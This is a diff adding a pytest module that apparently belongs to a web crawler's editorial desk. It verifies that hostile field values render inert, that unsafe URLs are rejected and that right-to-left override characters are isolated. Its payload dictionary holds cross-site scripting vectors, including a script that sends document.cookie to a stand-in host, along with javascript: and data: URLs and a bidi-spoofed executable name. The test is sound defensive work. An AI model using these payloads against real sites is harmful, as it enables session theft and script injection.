@@ -1,0 +1,174 @@
+"""Rendering of the desk (crawler.web.templating): hostile fields stay inert, links, bidi isolation (T41).
+
+Runs on SQLite and PostgreSQL (`db_url`); HTTP goes through FastAPI's TestClient over
+``https://testserver`` so the ``Secure`` session cookie is sent back (tests/desklab.py).
+"""
+
+from __future__ import annotations
+
+import re
+
+import html5lib
+import pytest
+from desklab import SQLITE_ONLY, add_item, add_source, client_for, csrf_of, decide_form, editor_client
+
+from crawler.web.templating import safe_url
+
+# --- T41 static check -----------------------------------------------------------------------------
+
+PAYLOADS = {
+    "title": "<script>fetch('http://127.0.0.3:9/x?c='+document.cookie)</script>",
+    "title2": "<img src=x onerror=alert(1)>",
+    "title3": '"]]></title><script>alert(1)</script>',
+    "author": '"><svg onload=alert(1)>',
+    "url": "javascript:alert(1)",
+    "text": (
+        '<a href="jav&#x09;ascript:alert(1)">x</a>'
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
+        "<svg><script>alert(1)</script></svg><iframe srcdoc='<script>alert(1)</script>'></iframe>"
+        "<form action='javascript:alert(1)'><base href='javascript:alert(1)//'>"
+        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"
+        '<p style="background:url(javascript:alert(1))">x</p>'
+        "<a href='data:text/html,<script>alert(1)</script>'>d</a>"
+    ),
+}
+
+
+def assert_inert(html: str, nonce: str) -> None:
+    """No element, attribute or URL of the page can run script except our own nonce'd app.js."""
+    tree = html5lib.parse(html, namespaceHTMLElements=False)
+    for el in tree.iter():
+        tag = el.tag if isinstance(el.tag, str) else ""
+        local = tag.split("}")[-1].lower()
+        if local == "script":
+            assert (
+                el.get("src") == "/static/app.js" and el.get("nonce") == nonce and not (el.text or "").strip()
+            )
+        assert local not in ("iframe", "base", "object", "embed", "svg", "math", "style", "form") or (
+            local == "form" and (el.get("action") or "").startswith("/")
+        ), local
+        if local == "meta":
+            assert (el.get("http-equiv") or "").lower() != "refresh"
+        for name, value in el.attrib.items():
+            lname = name.lower()
+            assert not lname.startswith("on"), (local, name)
+            assert lname not in ("srcdoc", "style"), (local, name)
+            v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
+            if lname in ("href", "src", "action", "formaction", "content", "xlink:href"):
+                assert not v.startswith(("javascript:", "data:", "vbscript:")), (local, name, value)
+                assert "javascript:" not in v or lname == "content", (local, name, value)
+
+
+@SQLITE_ONLY
+def test_hostile_fields_render_inert_everywhere(app, Session) -> None:
+    with Session() as s:
+        add_source(s, PAYLOADS["author"], PAYLOADS["author"], publisher=PAYLOADS["title"])
+        ids = [
+            add_item(
+                s,
+                n,
+                source_id=PAYLOADS["author"],
+                title=PAYLOADS[key],
+                author=PAYLOADS["author"],
+                url=PAYLOADS["url"],
+                summary=PAYLOADS["text"],
+                text=PAYLOADS["text"],
+                language=PAYLOADS["title2"][:8],
+                country="<b>",
+                attachments=[{"url": "javascript:alert(1)", "title": PAYLOADS["title2"]}, "data:text/html,x"],
+                evidence=[{"term": PAYLOADS["title2"], "weight": 1, "language": "<i>", "count": 1}],
+            ).id
+            for n, key in enumerate(("title", "title2", "title3"), start=1)
+        ]
+        s.commit()
+    admin = editor_client(app, Session, "root", "admin")
+    csrf = csrf_of(admin)
+    admin.post(
+        f"/items/{ids[0]}/decide", data=decide_form(admin, ids[0], "edit", editor_summary=PAYLOADS["text"])
+    )
+    hostile = admin.post(
+        f"/items/{ids[1]}/decide", data=decide_form(admin, ids[1], "reject", reason=PAYLOADS["title"])
+    )
+    assert hostile.status_code == 400  # only the listed reasons (test_reject_reason_must_be_listed)
+    admin.post(f"/items/{ids[1]}/decide", data=decide_form(admin, ids[1], "reject", reason="other"))
+    bulk = admin.post(
+        "/queue/bulk",
+        data={"csrf_token": csrf, "action": "approve", "request_token": "d" * 32, "item": [f"{ids[2]}:1"]},
+    )
+    pages = [bulk]
+    for path in (
+        "/queue",
+        "/queue?status=any",
+        f"/queue?q={PAYLOADS['title2']}",
+        "/queue/counts?status=any",
+        f"/items/{ids[0]}",
+        f"/items/{ids[1]}",
+        f"/items/{ids[2]}",
+        "/history",
+        "/sources",
+        "/admin/audit",
+        "/admin/users",
+        f"/items/{ids[0]}?msg={PAYLOADS['title']}",
+    ):
+        pages.append(admin.get(path))
+    pages.append(client_for(app).get(f"/login?next={PAYLOADS['url']}"))
+    for page in pages:
+        assert page.status_code == 200, page.url
+        csp = page.headers["content-security-policy"]
+        nonce = re.search(r"'nonce-([A-Za-z0-9_-]+)'", csp).group(1)
+        assert "default-src 'none'" in csp and page.headers["x-content-type-options"] == "nosniff"
+        assert_inert(page.text, nonce)
+    item_page = pages[5].text
+    assert "&lt;script&gt;fetch(" in item_page  # shown as text, not dropped
+    assert 'id="original-link-blocked"' in item_page
+
+
+@pytest.mark.parametrize(
+    ("url", "ok"),
+    [
+        ("https://example.org/a", True),
+        ("http://x.test", True),
+        ("javascript:alert(1)", False),
+        ("jav\tascript:alert(1)", False),
+        (" JAVASCRIPT:alert(1)", False),
+        ("data:text/html,x", False),
+        ("//evil.test/x", False),
+        ("https://", False),
+        (None, False),
+    ],
+)
+def test_safe_url(url, ok: bool) -> None:
+    assert (safe_url(url) is not None) is ok
+
+
+BIDI_TITLE = "Invoice \u202egnp.exe \u2066x\u200f"
+
+
+def test_titles_render_inside_bidi_isolates(app, Session) -> None:
+    """A right-to-left override in a harvested title or author cannot reorder the page around it:
+    every text holding a bidi control sits in a <bdi> (or an element with dir), and the page's
+    <title> holds none."""
+    with Session() as s:
+        add_source(s, "src-a")
+        item = add_item(s, 1, title=BIDI_TITLE, author="\u202eRLO author").id
+        s.commit()
+    alice = editor_client(app, Session)
+    assert alice.post(f"/items/{item}/decide", data=decide_form(alice, item, "defer"), follow_redirects=False)
+    controls = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+    for path in ("/queue?status=any", f"/items/{item}", "/history"):
+        tree = html5lib.parse(alice.get(path).text, namespaceHTMLElements=False)
+        parents = {child: parent for parent in tree.iter() for child in parent}
+        found = 0
+        for el in tree.iter():
+            if el.tag == "title":
+                assert not controls.search(el.text or ""), path
+                continue
+            if controls.search(el.text or ""):
+                found += 1
+                assert el.tag == "bdi" or el.get("dir") == "auto", (path, el.tag, el.text)
+            if controls.search(el.tail or ""):
+                found += 1
+                parent = parents[el]
+                assert parent.tag == "bdi" or parent.get("dir") == "auto", (path, parent.tag, el.tail)
+        assert found >= 1, path
+        assert any(el.tag == "bdi" and el.text == BIDI_TITLE for el in tree.iter()), path
